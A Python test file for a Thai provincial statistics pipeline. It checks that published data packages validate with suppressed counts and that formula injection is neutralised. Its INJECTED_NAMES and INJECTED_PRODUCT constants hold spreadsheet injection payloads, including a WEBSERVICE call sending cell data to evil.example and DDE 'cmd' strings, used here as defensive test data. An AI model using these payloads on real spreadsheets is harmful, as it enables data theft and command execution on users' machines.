"""Every published package passes `frictionless validate` (issue #12, point 3), formulas guarded (point 2).

The quick test publishes one table with suppressed counts (null in the Parquet
integer columns, `x` in the CSV) and validates its package: before the fix,
frictionless read those nulls back as NaN and called them "type is integer".

The slow tests (`-m slow`): a month of every collection for one province (Sakon Nakhon; the household survey at
5% of households, which leaves small counts suppressed at village, tambon and
amphoe level) goes through `tambon sample` and `tambon run`, as in the README.
Before the run, a field office's village file is given village names and a
product that a spreadsheet would execute, as issue #12 observed them.

Checked: `frictionless.validate` finds every `datapackage.json` under the catalog
valid, both resources (the Parquet file with nulls in its integer columns, the CSV
with BOM, `x` for suppressed counts, มี/ไม่มี and apostrophes); the suppressed cells
are really there; the injected names reach the CSV behind an apostrophe and the
Parquet file as received.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import frictionless
import pandas as pd
import pyarrow.parquet as pq
import pytest

from catalog.local import LocalCatalog
from catalog.outputs import Output
from domain.rounds import parse_round
from pipelines import cli
from tests.e2e.own_data import own_data_folder

ROUND = parse_round("2563-10")
PROVINCE = "47"  # Sakon Nakhon: one province is enough for suppressed cells at every household level
INJECTED_NAMES = [
    '=HYPERLINK("http://evil.example","x")',
    "@cmd",
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/?d="&A1)',
]
INJECTED_PRODUCT = "@SUM(1+1)*cmd|' /C calc'!A0"
SUPPRESSED = ("household_survey_village", "household_survey_tambon", "household_survey_amphoe")


def _inject(landing: Path) -> None:
    """Put the payloads into the first rows of the first village file with a plain Thai header row."""
    for path in sorted(landing.rglob("*.csv")):
        raw = path.read_bytes()
        encoding = "utf-8-sig" if raw.startswith(b"\xef\xbb\xbf") else "cp874"
        try:
            rows = list(csv.reader(io.StringIO(raw.decode(encoding), newline="")))
        except UnicodeDecodeError:
            continue
        header = [cell.strip() for cell in rows[0]]
        if "ชื่อหมู่บ้าน" not in header or not any(h.startswith("ผลิตภัณฑ์เด่น") for h in header):
            continue
        name = header.index("ชื่อหมู่บ้าน")
        product = next(i for i, h in enumerate(header) if h.startswith("ผลิตภัณฑ์เด่น"))
        for row, payload in zip(rows[1:], INJECTED_NAMES, strict=False):
            row[name], row[product] = payload, INJECTED_PRODUCT
        out = io.StringIO(newline="")
        csv.writer(out, lineterminator="\r\n").writerows(rows)
        path.write_bytes(out.getvalue().encode(encoding))
        return
    raise AssertionError(f"no village file with a Thai header row in {landing}")


def test_a_suppressed_count_validates_in_both_files(tmp_path):
    """The quick form of the issue: integer columns with hidden cells, null in Parquet and x in the CSV."""
    fields = [{"name": "round", "type": "string"}, {"name": "village_code", "type": "string"}]
    counts = ["surveyed", "passed", "failed"]
    fields += [{"name": c, "type": "integer"} for c in counts] + [{"name": "pct_failed", "type": "number"}]
    frame = pd.DataFrame(
        {
            "round": ["2020-10"] * 3,
            "village_code": ["47010101", "47010102", "47010103"],
            "surveyed": pd.array([7, 40, 12], dtype="Int64"),
            "passed": pd.array([None, 38, None], dtype="Int64"),
            "failed": pd.array([None, 2, None], dtype="Int64"),
            "pct_failed": [None, 5.0, None],
        }
    )
    hidden = frame[counts].isna().assign(pct_failed=frame["pct_failed"].isna())
    schema = {"fields": fields, "primaryKey": ["round", "village_code"], "missingValues": ["", "x"]}
    output = Output(
        "counts", "statistics", {"th": "ก", "en": "a"}, {"th": "ก", "en": "a"}, schema, frame, {}, hidden, "x"
    )
    published = LocalCatalog(tmp_path).publish(output, ROUND, {})
    assert ",x,x," in (published.folder / published.files["csv"]["path"]).read_text(encoding="utf-8-sig")
    parquet = pq.read_table(published.folder / published.files["parquet"]["path"])
    assert str(parquet.schema.field("passed").type) == "int64" and parquet.column("passed").null_count == 2
    report = frictionless.validate(str(published.folder / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


@pytest.fixture(scope="module")
def layout(tmp_path_factory):
    with own_data_folder(tmp_path_factory.mktemp("packages")) as layout:
        assert cli.main(["sample", "--round", ROUND.be_key, "--provinces", PROVINCE, "--scale", "0.05"]) == 0
        _inject(layout.landing_dir("village_profile", ROUND))
        assert cli.main(["run", "--round", ROUND.be_key]) == 0
        yield layout


def _csv_rows(folder: Path) -> list[dict[str, str]]:
    path = next(folder.glob("*.csv"))
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


@pytest.mark.slow
def test_every_published_package_passes_frictionless_validate(layout):
    packages = sorted(layout.catalog.rglob("datapackage.json"))
    published = {p.parent.name for p in layout.catalog.glob("*/latest.json")}
    assert len(packages) >= len(published) >= 20, (len(packages), sorted(published))
    invalid = {}
    for package in packages:
        report = frictionless.validate(str(package))
        assert len(report.tasks) == 2, package  # the CSV and the Parquet resource, each read row by row
        for task in report.tasks:
            if not task.valid:
                errors = task.flatten(["rowNumber", "fieldName", "type", "note"])
                invalid[f"{package.relative_to(layout.catalog)} {task.name}"] = (len(errors), errors[:5])
    assert not invalid, "\n".join(f"{name}: {errors}" for name, errors in invalid.items())


@pytest.mark.slow
def test_the_suppressed_cells_are_there_to_be_validated(layout):
    for output in SUPPRESSED:
        folder = next((layout.catalog / output / ROUND.key).glob("r*"))
        rows = _csv_rows(folder)
        hidden = sum(value == "x" for row in rows for value in row.values())
        parquet = pq.read_table(next(folder.glob("*.parquet")))
        nulls = sum(parquet.column(f.name).null_count for f in parquet.schema if str(f.type) == "int64")
        assert hidden > 0 and nulls > 0, output


@pytest.mark.slow
def test_injected_formulas_are_published_as_text_in_the_csv_and_as_received_in_parquet(layout):
    folder = next((layout.catalog / "village_profile" / ROUND.key).glob("r*"))
    rows = _csv_rows(folder)
    names = {row["village_name"] for row in rows}
    guarded = [p for p in INJECTED_NAMES if f"'{p}" in names]
    assert guarded, "no injected village name was accepted; the sample changed?"
    assert {row["notable_product"] for row in rows} >= {f"'{INJECTED_PRODUCT}"}
    for path in layout.catalog.rglob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
            for cell in row:
                runs = cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")
                assert not runs or re.fullmatch(r"[+-]?[0-9.]+(?:[eE][+-]?[0-9]+)?", cell), (path.name, cell)
    parquet = pq.read_table(next(folder.glob("*.parquet")))
    assert set(guarded) <= set(parquet.column("village_name").to_pylist())
    assert INJECTED_PRODUCT in parquet.column("notable_product").to_pylist()
